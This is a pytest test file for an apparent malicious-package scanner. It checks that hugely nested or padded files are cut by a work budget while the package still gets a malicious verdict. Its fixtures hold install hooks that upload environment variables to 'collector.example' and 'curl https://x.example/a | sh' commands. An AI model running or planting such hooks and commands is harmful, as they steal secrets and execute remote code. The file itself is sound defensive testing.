"""Hostile files that make syntax trees deep or long (issue 14 part 2: bounded work, never a lost verdict).

Each package pads itself with a generated file (nested arrays, nested calls, a long `+` chain)
next to an install hook that uploads the environment. The padded file must be cut by counted work
(marked budget_exhausted, shown in the report), and the package still analysed, scored and
flagged by its other file. Assertions are on counted work and events; the only clock is the scan's
own generous deadline.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from malseq._deadline import Deadline
from malseq.features.budget import FILE_WORK_UNITS, WorkBudget, first_too_deep
from malseq.features.javascript import MAX_TREE_DEPTH as JS_MAX_DEPTH
from malseq.features.javascript import analyse_javascript
from malseq.features.python import MAX_TREE_DEPTH as PY_MAX_DEPTH
from malseq.features.python import analyse_python_text
from malseq.intake.package import Language, PackageFile
from malseq.report.text import render_text
from malseq.scan import ScanOptions, scan

DEPTH = 100_000  # a 200 KB `[[[...]]]`; tree-sitter keeps depths in 16 bits

JS_HOSTILE = {
    "nested_arrays": "var a = " + "[" * DEPTH + "1" + "]" * DEPTH + ";\n",
    "nested_calls": "var a = " + "f(" * DEPTH + "1" + ")" * DEPTH + ";\n",
    "plus_chain": "var a = " + "+".join(["a"] * DEPTH) + ";\n",
    "subscript_chain": "var a = b" + "['c']" * DEPTH + ";\n",
}
PY_HOSTILE = {
    "nested_lists": "a = " + "[" * DEPTH + "1" + "]" * DEPTH + "\n",
    "nested_calls": "a = " + "f(" * DEPTH + "1" + ")" * DEPTH + "\n",
    "plus_chain": "a = " + "+".join(["a"] * DEPTH) + "\n",
}


def _js_package(root: Path, hostile: str) -> Path:
    root.mkdir()
    (root / "package.json").write_text(json.dumps({
        "name": "deep-demo", "version": "1.0.0", "main": "index.js",
        "scripts": {"postinstall": "node install.js"}}))
    (root / "install.js").write_text(
        "const https = require('https');\nconst data = JSON.stringify(process.env);\n"
        "const req = https.request({hostname: 'collector.example', path: '/c', method: 'POST'});\n"
        "req.write(data);\nreq.end();\n")
    (root / "index.js").write_text(hostile)
    return root


def _py_package(root: Path, hostile: str) -> Path:
    root.mkdir()
    (root / "setup.py").write_text(
        "import os\nimport urllib.request\nfrom setuptools import setup\n\n"
        "urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n"
        "setup(name='deep-demo', version='1.0', py_modules=['deep'])\n")
    (root / "deep.py").write_text(hostile)
    return root


@pytest.mark.parametrize("shape", sorted(JS_HOSTILE))
def test_a_deep_javascript_file_is_cut_by_counted_work(shape: str) -> None:
    code = JS_HOSTILE[shape] + "require('child_process').exec('curl https://x.example/a | sh');\n"
    work = WorkBudget(FILE_WORK_UNITS, Deadline(120))
    result = analyse_javascript(PackageFile("index.js", code.encode(), Language.JAVASCRIPT, False), Deadline(120), work)
    assert result.budget_exhausted
    assert work.used < FILE_WORK_UNITS  # the cut, not the budget's end, bounded the work
    # What follows the over-deep part is still read.
    assert "download_and_execute" in {e.behaviour for e in result.events}
    again = analyse_javascript(PackageFile("index.js", code.encode(), Language.JAVASCRIPT, False), Deadline(120))
    assert again.events == result.events  # same input, same cut


@pytest.mark.parametrize("shape", sorted(PY_HOSTILE))
def test_a_deep_python_file_is_cut_by_counted_work(shape: str) -> None:
    code = PY_HOSTILE[shape] + "import os\nos.system('curl https://x.example/a | sh')\n"
    work = WorkBudget(FILE_WORK_UNITS, Deadline(120))
    result = analyse_python_text("deep.py", code.encode(), work)
    assert result.budget_exhausted
    assert work.used < FILE_WORK_UNITS
    assert "download_and_execute" in {e.behaviour for e in result.events}
    assert analyse_python_text("deep.py", code.encode()).events == result.events


def test_ordinary_nesting_is_not_cut() -> None:
    js = "var a = " + "[" * 2000 + "'x'" + "]" * 2000 + ";\n" + "var s = " + "+".join(["'a'"] * 3000) + ";\n"
    assert not analyse_javascript(PackageFile("a.js", js.encode(), Language.JAVASCRIPT, False),
                                  Deadline(120)).budget_exhausted
    py = "a = " + "[" * 500 + "1" + "]" * 500 + "\n" + "s = " + "+".join(["'a'"] * 800) + "\n"
    assert not analyse_python_text("a.py", py.encode()).budget_exhausted
    assert 1000 < PY_MAX_DEPTH < JS_MAX_DEPTH < 65_535 // 2


def test_the_depth_walk_finds_the_ancestor_half_way_and_counts_its_steps() -> None:
    import tree_sitter_javascript
    from tree_sitter import Language as TSLanguage
    from tree_sitter import Parser

    code = ("var a = " + "[" * 5000 + "1" + "]" * 5000 + ";").encode()
    root = Parser(TSLanguage(tree_sitter_javascript.language())).parse(code).root_node
    budget = WorkBudget(FILE_WORK_UNITS)
    assert first_too_deep(root, 6000, budget) is None
    found = first_too_deep(root, 4000, budget)
    assert found is not None and found.type == "array"
    # The cut keeps the first 2,000 levels: about one byte of `[` per level above it.
    assert 1900 < found.start_byte < 2100
    assert budget.used > 0


@pytest.mark.parametrize(("language", "shape"), [("javascript", s) for s in sorted(JS_HOSTILE)] +
                         [("python", s) for s in sorted(PY_HOSTILE)])
def test_a_package_padded_with_a_deep_file_gets_a_verdict_from_its_other_file(
        tmp_path: Path, language: str, shape: str) -> None:
    if language == "javascript":
        root, cut_file = _js_package(tmp_path / "pkg", JS_HOSTILE[shape]), "index.js"
    else:
        root, cut_file = _py_package(tmp_path / "pkg", PY_HOSTILE[shape]), "deep.py"
    # balanced: the npm low-fpr threshold (0.9964 since 2 December) sits above this small stealer's score;
    # what is tested is that the other file is read and scored, not where the threshold is
    (result,) = scan([str(root)], ScanOptions(isolate=False, operating_point="balanced"))
    assert result.error is None and result.analysis is not None and result.score is not None
    assert [f.path for f in result.analysis.files if f.budget_exhausted] == [cut_file]
    assert result.verdict == "malicious" and result.score > 0.9
    assert "upload_data" in {e.behaviour for e in result.analysis.all_events()}
    assert f"analysis budget exhausted in 1 file (read in part, the rest cut): {cut_file}" in render_text(
        [result], show_features=False, show_sequence=False)


def test_a_setup_py_importing_a_huge_generated_module_is_caught_by_the_modules_last_lines(tmp_path: Path) -> None:
    """Issue 14: a 6 MB module of generated helpers whose last lines post os.environ, imported by
    setup.py. The module is too big to read whole; its end is read, and the upload is placed at
    install time."""
    root = tmp_path / "pkg"
    (root / "helpers").mkdir(parents=True)
    (root / "setup.py").write_text("from setuptools import setup\nimport helpers.generated\n\n"
                                   "setup(name='demo-helpers', version='1.0', packages=['helpers'])\n")
    (root / "helpers" / "__init__.py").write_text("")
    helper = "def helper_{i}(value, scale={s}):\n    return [value * scale, 'h{i}', value.get('k{i}')]\n\n"
    helpers = "".join(helper.format(i=i, s=i % 7) for i in range(70_000))
    tail = ("import os\nimport urllib.request\n"
            "urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n")
    (root / "helpers" / "generated.py").write_text(helpers + tail)
    assert (root / "helpers" / "generated.py").stat().st_size > 6_000_000
    (result,) = scan([str(root)], ScanOptions(isolate=False))
    assert result.error is None and result.score is not None and result.sequence is not None
    assert [f.path for f in result.analysis.files if f.budget_exhausted] == ["helpers/generated.py"]  # type: ignore[union-attr]
    last_line = helpers.count("\n") + 3
    install_steps = {(s.behaviour, s.file, s.line) for s in result.sequence.steps if s.stage.value == "install"}
    assert ("upload_data", "helpers/generated.py", last_line) in install_steps
    assert ("read_env", "helpers/generated.py", last_line) in install_steps
